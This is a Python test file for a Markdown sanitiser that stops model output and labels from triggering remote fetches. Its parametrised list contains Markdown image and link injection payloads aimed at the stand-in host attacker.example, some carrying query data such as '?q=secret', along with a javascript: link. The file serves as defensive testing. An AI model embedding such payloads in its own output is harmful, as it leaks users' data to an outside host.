"""safe_markdown: model output and labels drawn as Markdown never make the browser fetch a URL.
The check that matters is a real Markdown parser's: markdown-it (CommonMark with GFM's
linkify, as the page's renderer) finds no image and no link to another host in the result."""

import pytest
from markdown_it import MarkdownIt

from core.text import safe_markdown

RENDERER = MarkdownIt("commonmark", {"linkify": True}).enable(["linkify", "table"])


def remote_references(markdown: str) -> list[str]:
    """Every image source and every link target to another host in the parsed document."""
    found = []

    def walk(tokens):
        for token in tokens:
            if token.type == "image":
                found.append(f"image {token.attrGet('src')}")
            if token.type == "link_open" and not str(token.attrGet("href")).startswith("#"):
                found.append(f"link {token.attrGet('href')}")
            walk(token.children or [])

    walk(RENDERER.parse(markdown))
    return found


ATTACKS = [
    "![](http://attacker.example/?q=secret)",
    "Sure! ![chart](https://attacker.example/c.png \"title\") as you see [1].",
    "![a](<http://attacker.example/a b>)",
    "[click](https://attacker.example/?q=1)",
    "<http://attacker.example/x>",
    "Visit http://attacker.example/x?q=1 or www.attacker.example now.",
    "[a ![b](http://attacker.example/1) c](http://attacker.example/2)",
    "[a [b](http://attacker.example/1) c](http://attacker.example/2)",
    "[x]: http://attacker.example/img\n\n![y][x] and [z][x]",
    "![y][x]\n\n   [x]: http://attacker.example/img",
    "\\`![x](http://attacker.example/1)`",
    "<div>\n```\n\n![x](http://attacker.example/1)\n```",
    "![x](//attacker.example/img)",
    "![x]\n\n[x]: <http://attacker.example/img>",
]


# Inert as they are (code, a scheme the renderer refuses), and still inert once rewritten.
INERT = ["`![x](http://attacker.example/1)`", "```\n![x](http://attacker.example/1)\n```",
         "[x](javascript:alert(1))"]


@pytest.mark.parametrize("text", ATTACKS + INERT)
def test_no_image_or_remote_link_survives(text):
    assert text in INERT or remote_references(text), "the attack should work on the raw text"
    assert remote_references(safe_markdown(text)) == []


def test_ordinary_markdown_and_citations_are_kept():
    text = ("**Results** [1] show _gains_ [2][3].\n\n- item `code`\n\n"
            "| a | b |\n|---|---|\n| 1 | 2 |\n\nSee [the method](#method).")
    assert safe_markdown(text) == text


def test_the_alt_text_and_the_url_stay_readable():
    assert safe_markdown("![a chart](http://h/c.png)") == "a chart (image: `http:\u200b//h/c.png`)"
    assert safe_markdown("[docs](https://h/d)") == "docs (`https:\u200b//h/d`)"


def test_document_text_is_literal_and_links_nothing():
    """Streamlit's GFM links an address found in the text that escapes leave ("a\\@b.com" is
    still a@b.com): a zero-width space after "@" and "://" is what keeps it text."""
    from core.text import escape_markdown

    shown = escape_markdown("**Jacob** <b>x</b> {jacobdevlin,kentonl}@google.com http://h/x")
    assert "@\u200b" in shown and ":\u200b//" in shown
    assert remote_references(shown) == []
    assert RENDERER.renderInline(shown).replace("\u200b", "") == (
        "**Jacob** &lt;b&gt;x&lt;/b&gt; {jacobdevlin,kentonl}@google.com http://h/x")


def test_clip_cuts_at_a_word_and_says_so():
    from core.text import clip

    assert clip("Who wrote the BERT paper?", 40) == "Who wrote the BERT paper?"
    assert clip("What are the two pre-training tasks of BERT and how do they differ?", 40) == \
        "What are the two pre-training tasks of…"
    assert clip("x" * 60, 40) == "x" * 39 + "…"



def test_repeated_labels_are_numbered_so_that_each_names_one_choice():
    from core.text import distinct

    assert distinct(["A · 1 turn", "B · 1 turn", "A · 1 turn", "A · 1 turn"]) == \
        ["A · 1 turn", "B · 1 turn", "A · 1 turn (2)", "A · 1 turn (3)"]
    assert distinct([]) == []


def test_a_chunk_heading_does_not_repeat_what_the_chunk_opens_with():
    from core.text import heading

    title = "Generative Adversarial Nets"
    assert heading(f"{title}\n\nIan J. Goodfellow", title, title) == ""  # a title block
    assert heading("We propose a new framework", title, "1 Introduction") == \
        f"{title} · 1 Introduction"
    assert heading("1 Introduction\n\nDeep learning", title, "1 Introduction") == \
        f"{title} · 1 Introduction"
    assert heading("text", "", "") == ""
